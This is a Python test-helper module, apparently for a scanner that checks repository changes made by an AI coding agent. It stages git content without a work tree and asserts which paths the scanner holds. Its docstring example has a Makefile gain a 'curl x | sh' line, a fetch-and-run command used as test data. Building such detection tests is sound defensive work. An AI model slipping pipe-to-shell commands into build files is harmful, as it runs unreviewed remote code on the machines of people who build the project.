"""One agent's change of a harmless repository, judged in every way in which it can meet the gate.

report = attacked(tmp_path, "staged", {"Makefile": "all:\n"}, {"Makefile": "all:\n\tcurl x | sh\n"})
assert held(report) == {"Makefile"}

Nothing here is checked out: names that no file system takes reach git by fast-import and by the index alone.
"""

from __future__ import annotations

from collections.abc import Mapping
from pathlib import Path

from kit.history import CLAUDE_TRAILER, Content, History, Repo, empty_repo, raw
from kit.judging import scan
from scanner.model.finding import Disposition
from scanner.model.report import Report

WORK = f"Work\n\n{CLAUDE_TRAILER}\n"
WAYS = {"range": "HEAD~1..HEAD", "history": "", "staged": "--staged"}
AT_WORK = {"CLAUDECODE": "1"}
HARMLESS: Mapping[str, Content] = {"README.md": "Read me.\n", "src/app.py": "x = 1\n"}
_STOPS = frozenset({Disposition.HELD, Disposition.FAILED})

Modes = Mapping[str, str]


def attacked(
    folder: Path,
    way: str,
    before: Mapping[str, Content],
    after: Mapping[str, Content],
    *,
    modes: Modes | None = None,
    new_modes: Modes | None = None,
    secrets: bool = False,
) -> Report:
    """The report on `after` (None deletes), done with an agent to a tree of `before`.

    `modes` are those of `before`, and of `after` where `new_modes` does not say otherwise.
    """
    history = History()
    history.commit("Start", files={**HARMLESS, **before}, modes=modes)
    later = {**(modes or {}), **(new_modes or {})}
    if way != "staged":
        history.commit(WORK, files=after, modes=later)
    repo = unfolded(history, folder / "r")
    if way == "staged":
        put(repo, after, later)
    return scan(repo, WAYS[way], secrets=secrets, environ=AT_WORK)


def unfolded(history: History, folder: Path) -> Repo:
    """The repository of `history` with its index filled and no file written."""
    repo = empty_repo(folder)
    repo.git("fast-import", "--quiet", "--force", stdin=bytes(history.stream))
    repo.git("read-tree", "main")
    return repo


def put(repo: Repo, files: Mapping[str, Content], modes: Modes | None = None) -> None:
    """Stage `files` without a work tree."""
    rows = b""
    for path, content in files.items():
        mode = (modes or {}).get(path, "100644")
        if content is None:
            mode, oid = "0", b"0" * 40
        elif mode == "160000":
            oid = raw(content)
        else:
            oid = repo.git("hash-object", "-w", "--stdin", stdin=raw(content)).encode()
        rows += mode.encode() + b" " + oid + b"\t" + raw(path) + b"\0"
    repo.git("-c", "core.protectNTFS=false", "update-index", "-z", "--index-info", stdin=rows)


def held(report: Report) -> set[str]:
    """The paths that stop the report."""
    return {finding.path for finding in report.findings if finding.outcome in _STOPS}


def kinds(report: Report, path: str) -> set[str]:
    """What the report says changed at `path`."""
    return {
        delta.kind
        for entry in report.commits
        for change in entry.changes
        if change.path == path
        for delta in change.deltas
    }
